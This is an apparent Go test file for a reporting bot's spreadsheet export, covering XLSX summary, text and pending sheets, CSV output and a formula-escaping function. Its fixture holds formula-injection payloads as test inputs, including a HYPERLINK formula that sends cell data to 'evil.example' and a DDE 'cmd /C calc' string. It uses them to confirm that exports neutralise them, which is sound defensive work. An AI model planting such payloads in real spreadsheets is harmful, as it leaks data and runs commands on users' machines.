package sheet

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"math"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"reportbot/flows"
	"reportbot/flows/flowstest"
)

var (
	shanghai = time.FixedZone("CST", 8*3600)
	now      = time.Date(2022, 2, 5, 10, 0, 0, 0, shanghai)
)

// injections are user texts that a spreadsheet would run as formulas.
const (
	evilSummary = `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
	evilName    = "+8613912345678"
	evilHigh    = "@SUM(1+1)*cmd|' /C calc'!A0"
	evilSuggest = "-2+3"
)

// fixture is a campaign overview with units in every state, and the data
// behind it by unit id; unit 2's text answers are formula injections.
func fixture(t testing.TB) (*flows.Overview, map[int64]flows.UnitData) {
	t.Helper()
	c := flows.DefaultCampaign()
	submitted := func(u flows.Unit, version int, at time.Time, name string) flows.UnitData {
		r := &flows.Report{UnitID: u.ID, Version: version, Receipt: c.ReceiptNumber(u.ID, version), SubmittedAt: at, Answers: flowstest.SampleAnswers(c, u.Category, uint64(u.ID))}
		st := flows.StatusSubmitted
		if version > 1 {
			st = flows.StatusRevising
		}
		return flows.UnitData{Unit: u, Latest: r,
			Contacts: []flows.Contact{{UserID: 100 + u.ID, UnitID: u.ID, Name: name}},
			Draft:    flows.Draft{UnitID: u.ID, Status: st, Version: version, Answers: r.Answers, SubmittedAt: at, UpdatedAt: at}}
	}
	unit := func(id int64, name, cat string) flows.Unit { return flows.Unit{ID: id, Name: name, Category: cat} }
	u1 := submitted(unit(1, "离石区双拥工作领导小组", "county"), 1, now.Add(-50*time.Hour), "张建国")
	u2 := submitted(unit(2, "孝义市双拥工作领导小组", "county"), 1, now.Add(-5*time.Hour), "李秀英")
	u2.Latest.Answers["summary_text"] = flows.Answer{Text: evilSummary}
	u2.Latest.Answers["filler_name"] = flows.Answer{Text: evilName}
	u2.Latest.Answers["highlights"] = flows.Answer{Text: evilHigh}
	u2.Latest.Answers["suggestions"] = flows.Answer{Text: evilSuggest}
	u3 := submitted(unit(3, "市财政局", "department"), 2, now.Add(-2*time.Hour), "刘海燕")
	u3.Latest.Answers["highlights"] = flows.Answer{Skipped: true}
	u4 := submitted(unit(4, "市民政局", "department"), 1, now.Add(-30*time.Hour), "陈卫东")
	u4.Draft.Status = flows.StatusReturned
	u4.Draft.Returned = &flows.Return{Reason: "慰问金数额有误", Question: "veteran_cash", At: now.Add(-time.Hour)}
	u5 := flows.UnitData{Unit: unit(5, "市总工会", "organization"), Draft: flows.Draft{UnitID: 5}}
	u5.Unit.Note = "=工会办公室"
	u6 := submitted(unit(6, "吕梁军分区", "military"), 1, now.Add(-10*time.Hour), "孙强")
	u7 := submitted(unit(7, "已撤销的单位", "county"), 1, now.Add(-70*time.Hour), "周")
	u7.Unit.Removed = true
	u8 := flows.UnitData{Unit: unit(8, "文水县双拥工作领导小组", "county"),
		Contacts: []flows.Contact{{UserID: 108, UnitID: 8, Name: "王志强", Unreachable: true}},
		Draft: flows.Draft{UnitID: 8, Status: flows.StatusFilling, Cursor: "essays", UpdatedAt: now.Add(-3 * time.Hour),
			Answers: map[string]flows.Answer{"filler_name": {Text: "王志强"}, "filler_phone": {Text: "13912345678"}}}}
	all := []flows.UnitData{u1, u2, u3, u4, u5, u6, u7, u8}
	byID := map[int64]flows.UnitData{}
	for _, d := range all {
		byID[d.Unit.ID] = d
	}
	return flows.NewOverview(c, c.Deadline, now, all), byID
}

// textsOf reads the text answers from the fixture's reports.
func textsOf(o *flows.Overview, data map[int64]flows.UnitData) TextSource {
	return func(u *flows.UnitOverview) ([]string, error) {
		return o.Texts(u, *data[u.Unit.ID].Latest), nil
	}
}

func openXLSX(t testing.TB, o *flows.Overview, data map[int64]flows.UnitData) *excelize.File {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, o, textsOf(o, data)); err != nil {
		t.Fatalf("WriteXLSX: %v", err)
	}
	f, err := excelize.OpenReader(&buf, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatalf("open the written workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// want is one expected cell: a string, an int64 (integer cell), a money
// amount in hundredths (money cell) or nil (empty).
type wantMoney int64

// wantAny is a cell checked elsewhere.
type wantAny struct{}

func checkRow(t *testing.T, f *excelize.File, sheet string, row int, want []any) {
	t.Helper()
	for i, w := range want {
		ref := cell(i+1, row)
		got, err := f.GetCellValue(sheet, ref)
		if err != nil {
			t.Fatalf("GetCellValue(%s!%s): %v", sheet, ref, err)
		}
		typ, _ := f.GetCellType(sheet, ref)
		formula, _ := f.GetCellFormula(sheet, ref)
		if formula != "" {
			t.Errorf("%s!%s has formula %q; the export writes none", sheet, ref, formula)
		}
		switch w := w.(type) {
		case wantAny:
		case nil, blank:
			if got != "" {
				t.Errorf("%s!%s = %q, want empty", sheet, ref, got)
			}
		case string:
			if got != w || (w != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
				t.Errorf("%s!%s = %q (type %v), want text %q", sheet, ref, got, typ, w)
			}
		case int64:
			n, err := strconv.ParseInt(got, 10, 64)
			if err != nil || n != w || typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("%s!%s = %q (type %v), want the number %d", sheet, ref, got, typ, w)
			}
		case wantMoney:
			v, err := strconv.ParseFloat(got, 64)
			if err != nil || int64(math.Round(v*100)) != int64(w) || typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
				t.Errorf("%s!%s = %q (type %v), want the number %s", sheet, ref, got, typ, flows.FormatMoney(int64(w)))
			}
		default:
			t.Fatalf("bad expectation %T", w)
		}
	}
	// Nothing beyond the expected cells.
	rows, _ := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if row <= len(rows) && len(rows[row-1]) > len(want) {
		t.Errorf("%s row %d has %d cells, want %d: %q", sheet, row, len(rows[row-1]), len(want), rows[row-1])
	}
}

// figure is what a unit's report says for q, computed here from the
// answers (not by the code under test): blank when it does not apply.
func figure(c *flows.Campaign, d flows.UnitData, q *flows.Question) any {
	a, ok := d.Latest.Answers[q.ID]
	if !ok || a.Skipped || !c.Applies(q, d.Unit.Category, d.Latest.Answers) {
		return blank{}
	}
	if q.Type == flows.TypeMoney {
		return wantMoney(a.Num)
	}
	return a.Num
}

func TestWriteXLSXSummary(t *testing.T) {
	o, data := fixture(t)
	c := o.Campaign
	f := openXLSX(t, o, data)
	if got := f.GetSheetList(); !slices.Equal(got, []string{SheetSummary, SheetTexts, SheetPending}) {
		t.Fatalf("sheets = %v", got)
	}
	checkRow(t, f, SheetSummary, 1, []any{c.Title})
	checkRow(t, f, SheetSummary, 2, []any{"文号：吕拥办电〔2021〕4号　　截止时间：2022年2月10日 18:00"})
	checkRow(t, f, SheetSummary, 3, []any{"截至 2022年2月5日 10:00　　已提交 4 / 7 个单位（退回修改 1 个，未提交 2 个）"})

	numbers := c.NumberQuestions()
	titles := []any{"序号", "单位名称", "类别", "联系人", "提交时间", "版本", "回执编号", "状态"}
	sections := slices.Clone(titles)
	for i, q := range numbers {
		titles = append(titles, q.Title())
		if i == 0 || q.Section != numbers[i-1].Section {
			sections = append(sections, q.Section.Title)
		} else {
			sections = append(sections, nil)
		}
	}
	if titles[8] != "组织双拥主题征文（篇）" || titles[len(titles)-1] != "帮扶救助金额（万元）" {
		t.Errorf("figure titles run %q … %q", titles[8], titles[len(titles)-1])
	}
	// Merged cells read the same value in every cell of the range.
	for i := 1; i < len(sections); i++ {
		if sections[i] == nil {
			sections[i] = sections[i-1]
		}
	}
	checkRow(t, f, SheetSummary, 4, sections)
	checkRow(t, f, SheetSummary, 5, titles)

	// The units that stand, by category, each category's subtotal, the total.
	type catRows struct {
		name  string
		units []int64
	}
	groups := []catRows{
		{"县（市、区）双拥工作领导小组", []int64{1, 2}},
		{"市直单位", []int64{3}},
		{"人民团体", nil},
		{"驻吕部队", []int64{6}},
	}
	contacts := map[int64]string{1: "张建国", 2: "李秀英", 3: "刘海燕", 6: "孙强"}
	row, n := 6, int64(0)
	total := map[string]int64{}
	for _, g := range groups {
		sub := map[string]int64{}
		for _, id := range g.units {
			u := data[id]
			n++
			state := "已提交"
			if id == 3 {
				state = "已提交，修改中"
			}
			want := []any{n, u.Unit.Name, g.name, contacts[id], u.Latest.SubmittedAt.In(shanghai).Format("2006-01-02 15:04"), int64(u.Latest.Version), u.Latest.Receipt, state}
			for _, q := range numbers {
				v := figure(c, u, q)
				want = append(want, v)
				switch v := v.(type) {
				case int64:
					sub[q.ID] += v
				case wantMoney:
					sub[q.ID] += int64(v)
				}
			}
			checkRow(t, f, SheetSummary, row, want)
			row++
		}
		want := []any{nil, fmt.Sprintf("小计（%d 个单位）", len(g.units)), g.name, nil, nil, nil, nil, nil}
		for _, q := range numbers {
			want = append(want, sumCell(q, sub[q.ID]))
			total[q.ID] += sub[q.ID]
		}
		checkRow(t, f, SheetSummary, row, want)
		row++
	}
	want := []any{nil, "合计（4 个单位）", "全部", nil, nil, nil, nil, nil}
	for _, q := range numbers {
		want = append(want, sumCell(q, total[q.ID]))
	}
	checkRow(t, f, SheetSummary, row, want)
	if rows, _ := f.GetRows(SheetSummary); len(rows) != row {
		t.Errorf("%s has %d rows, want %d", SheetSummary, len(rows), row)
	}
	if total["troop_visits"] == 0 || total["veteran_cash"] == 0 || total["local_projects"] == 0 {
		t.Errorf("fixture totals troop_visits %d, veteran_cash %d, local_projects %d: want all > 0", total["troop_visits"], total["veteran_cash"], total["local_projects"])
	}
	// Money cells show two decimals.
	for col, q := range numbers {
		ref := cell(9+col, 6)
		style, _ := f.GetCellStyle(SheetSummary, ref)
		st, err := f.GetStyle(style)
		if err != nil {
			t.Fatal(err)
		}
		if wantFmt := map[bool]int{true: 2, false: 1}[q.Type == flows.TypeMoney]; st.NumFmt != wantFmt {
			t.Errorf("%s!%s (%s) has number format %d, want %d", SheetSummary, ref, q.ID, st.NumFmt, wantFmt)
		}
	}
	panes, err := f.GetPanes(SheetSummary)
	if err != nil || !panes.Freeze || panes.YSplit != 5 {
		t.Errorf("%s panes = %+v, %v; want the header block frozen", SheetSummary, panes, err)
	}
}

func sumCell(q *flows.Question, n int64) any {
	if q.Type == flows.TypeMoney {
		return wantMoney(n)
	}
	return n
}

func TestWriteXLSXTexts(t *testing.T) {
	o, data := fixture(t)
	c := o.Campaign
	f := openXLSX(t, o, data)
	var texts []*flows.Question
	titles := []any{"序号", "单位名称", "类别", "版本"}
	for _, q := range c.Questions() {
		if !q.IsNumber() {
			texts = append(texts, q)
			title, _, _ := strings.Cut(q.Prompt, "：")
			titles = append(titles, title)
		}
	}
	checkRow(t, f, SheetTexts, 1, titles)
	if titles[len(titles)-2] != "专题报告（正式文件）" {
		t.Errorf("document column title = %q", titles[len(titles)-2])
	}
	order := []int64{1, 2, 3, 6}
	for i, id := range order {
		u := data[id]
		cat, _ := c.Category(u.Unit.Category)
		want := []any{int64(i + 1), u.Unit.Name, cat.Name, int64(u.Latest.Version)}
		for _, q := range texts {
			a, ok := u.Latest.Answers[q.ID]
			if !ok || a.Skipped || !c.Applies(q, u.Unit.Category, u.Latest.Answers) {
				want = append(want, nil)
				continue
			}
			want = append(want, flows.FormatAnswer(q, a))
		}
		checkRow(t, f, SheetTexts, i+2, want)
	}
	// The injections are plain text cells, unchanged.
	for col, wantText := range map[int]string{5: evilName, len(titles) - 4: evilSummary, len(titles) - 3: evilHigh, len(titles) - 2: evilSuggest} {
		ref := cell(col, 3)
		got, _ := f.GetCellValue(SheetTexts, ref)
		typ, _ := f.GetCellType(SheetTexts, ref)
		formula, _ := f.GetCellFormula(SheetTexts, ref)
		if got != wantText || typ != excelize.CellTypeInlineString || formula != "" {
			t.Errorf("%s!%s = %q (type %v, formula %q), want the text %q", SheetTexts, ref, got, typ, formula, wantText)
		}
	}
}

func TestWriteXLSXPending(t *testing.T) {
	o, data := fixture(t)
	f := openXLSX(t, o, data)
	checkRow(t, f, SheetPending, 1, []any{"序号", "单位名称", "类别", "联系人说明", "状态", "联系人", "最后填写时间"})
	checkRow(t, f, SheetPending, 2, []any{int64(1), "文水县双拥工作领导小组", "县（市、区）双拥工作领导小组", nil, "填写中 2/26；联系人已屏蔽机器人", "王志强", "2022-02-05 07:00"})
	checkRow(t, f, SheetPending, 3, []any{int64(2), "市民政局", "市直单位", nil, "退回修改（原因：慰问金数额有误）", "陈卫东", "2022-02-04 04:00"})
	checkRow(t, f, SheetPending, 4, []any{int64(3), "市总工会", "人民团体", "=工会办公室", "未绑定联系人", nil, nil})
	if rows, _ := f.GetRows(SheetPending); len(rows) != 4 {
		t.Errorf("%s has %d rows, want 4", SheetPending, len(rows))
	}
}

func TestWriteXLSXEmpty(t *testing.T) {
	c := flows.DefaultCampaign()
	f := openXLSX(t, flows.NewOverview(c, c.Deadline, now, nil), nil)
	rows, err := f.GetRows(SheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[len(rows)-1]; len(got) < 2 || got[1] != "合计（0 个单位）" {
		t.Errorf("last row of an empty export = %q, want the zero total", got)
	}
}

func TestWriteCSV(t *testing.T) {
	o, units := fixture(t)
	c := o.Campaign
	var buf bytes.Buffer
	if err := WriteCSV(&buf, o, textsOf(o, units)); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	data := buf.Bytes()
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: % x", data[:8])
	}
	if !bytes.Contains(data, []byte("\r\n")) {
		t.Errorf("CSV lines do not end in CRLF")
	}
	recs, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
	if err != nil {
		t.Fatalf("read the written CSV: %v", err)
	}
	header := recs[0]
	col := func(title string) int {
		i := slices.Index(header, title)
		if i < 0 {
			t.Fatalf("CSV header lacks %q: %q", title, header)
		}
		return i
	}
	// Rows: 2 county units + subtotal, 1 department + subtotal, organization
	// subtotal, 1 military + subtotal, total.
	if len(recs) != 1+9 {
		t.Fatalf("CSV has %d records, want 10", len(recs))
	}
	u2 := recs[2]
	if u2[col("单位名称")] != "孝义市双拥工作领导小组" {
		t.Fatalf("CSV record 2 is %q", u2[:3])
	}
	for title, want := range map[string]string{
		"填报人姓名": "'" + evilName,
		"活动开展情况简述（不超过1000字）": "'" + evilSummary,
		"特色做法和典型事迹":          "'" + evilHigh,
		"存在问题及意见建议":          "'" + evilSuggest,
	} {
		if got := u2[col(title)]; got != want {
			t.Errorf("CSV %s = %q, want %q (guarded)", title, got, want)
		}
	}
	total := recs[len(recs)-1]
	if total[col("单位名称")] != "合计（4 个单位）" {
		t.Errorf("last CSV record is %q, want the total", total[:3])
	}
	for _, q := range c.NumberQuestions() {
		var sum int64
		for _, id := range []int64{1, 2, 3, 6} { // the standing versions
			switch v := figure(c, units[id], q).(type) {
			case int64:
				sum += v
			case wantMoney:
				sum += int64(v)
			}
		}
		want := strconv.FormatInt(sum, 10)
		if q.Type == flows.TypeMoney {
			want = flows.FormatMoney(sum)
		}
		if got := total[col(q.Title())]; got != want {
			t.Errorf("CSV total of %s = %q, want %q", q.ID, got, want)
		}
	}
}

func TestGuardFormula(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"市财政局", "市财政局"},
		{"=1+1", "'=1+1"},
		{"+86", "'+86"},
		{"-5", "'-5"},
		{"@A1", "'@A1"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{"＝1", "＝1"},
	}
	for _, tt := range tests {
		if got := GuardFormula(tt.in); got != tt.want {
			t.Errorf("GuardFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFileName(t *testing.T) {
	c := flows.DefaultCampaign()
	o := flows.NewOverview(c, c.Deadline, now, nil)
	if got, want := FileName(o, "xlsx"), "2022年元旦春节期间拥军优属拥政爱民工作情况报告_20220205-1000.xlsx"; got != want {
		t.Errorf("FileName = %q, want %q", got, want)
	}
	c.Title = `a/b:c*?"<>|`
	if got, want := FileName(o, "csv"), "a_b_c_______20220205-1000.csv"; got != want {
		t.Errorf("FileName = %q, want %q", got, want)
	}
}
